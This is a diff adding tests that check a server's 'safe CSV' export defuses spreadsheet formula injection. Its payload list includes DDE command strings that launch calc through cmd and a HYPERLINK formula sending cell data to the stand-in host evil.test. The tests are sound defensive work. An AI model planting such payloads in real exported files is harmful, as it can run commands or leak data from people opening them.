@@ -6,6 +6,7 @@ import asyncio
 import csv
 import io
 import logging
+import re
 from collections.abc import AsyncGenerator, Callable
 from pathlib import Path
 from typing import Any
@@ -18,6 +19,8 @@ from structlog.testing import capture_logs
 
 from server.app import build
 from server.config import Settings
+from server.exporting import FORMATS
+from server.model import Record
 from server.stores import StoreBusy
 from server.stores.sql import SqlStore, migrate
 from server.transports import export, http, streams
@@ -135,6 +138,56 @@ async def test_host_and_origin_are_guarded_here_too(serve: Start) -> None:
     client = await serve()
     assert (await client.get(CSV, headers={"Host": "evil.example"})).status == 403
     assert (await client.get(CSV, headers={"Origin": "https://evil.example"})).status == 403
+
+
+# Files for spreadsheets
+
+FORMULAS = [
+    *("=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1"),
+    *('=HYPERLINK("http://evil.test?x="&A1,"x")', " =1+1", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "＠x"),
+    *('"=1+1', "'=1+1", "a;=1+1", 'a;"=1+1"', "a\t=1+1", "a\n=1+1", "a\r\n-1+1", "a; @x", "=;=;=", "--1"),
+]
+
+
+def cells_of(text: str) -> set[str]:
+    """Every cell that any spreadsheet may see in it: by comma, semicolon or tab, quotes taken for what they
+    are or not."""
+    found = set()
+    for delimiter in ",;\t":
+        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+            lines = io.StringIO(text, newline="")
+            for row in csv.reader(lines, delimiter=delimiter, quoting=quoting):
+                found |= set(row)
+        found |= {cell for line in re.split("[\r\n]+", text) for cell in line.split(delimiter)}
+    return found
+
+
+async def test_no_text_of_a_safe_file_passes_for_a_formula(serve: Start) -> None:
+    client = await serve()
+    for text in FORMULAS:
+        body = {"fields": {"title": text, "tags": [text], "box": {"size": -1}, "note": f"a{text}"}}
+        assert (await client.post("/api/grids/tasks/records", json=body)).status == 201
+    answer = await client.get("/api/grids/tasks/export.safe.csv")
+    assert answer.headers["Content-Disposition"] == 'attachment; filename="tasks.safe.csv"'
+    for cell in cells_of(await answer.text()):
+        assert not cell.lstrip('" \t\r\n').startswith(tuple("=+-@＝＋－＠")), cell
+    exact = await (await client.get(CSV)).text()
+    rows = list(csv.reader(io.StringIO(exact, newline="")))[1:]
+    assert [row[0] for row in rows] == FORMULAS  # the other file is exact
+
+
+async def test_a_safe_file_spares_what_is_harmless() -> None:
+    async def batches() -> AsyncGenerator[list[Record], None]:
+        yield [Record("a", 1, {"number": -1.5, "decimal": "-12.50", "text": "a-b = c; d", "list": [-1]})]
+
+    names = ("number", "decimal", "text", "list")
+    described = [{"name": name, "label": f"={name}" if name == "text" else name} for name in names]
+    written = b"".join([part async for part in FORMATS["safe.csv"](described, batches())]).decode()
+    assert written.split("\r\n") == [
+        'number,decimal,"\'=text",list',
+        '-1.5,-12.50,"a-b = c; d","[-1]"',
+        "",
+    ]
 
 
 # Streams that do not come to their end
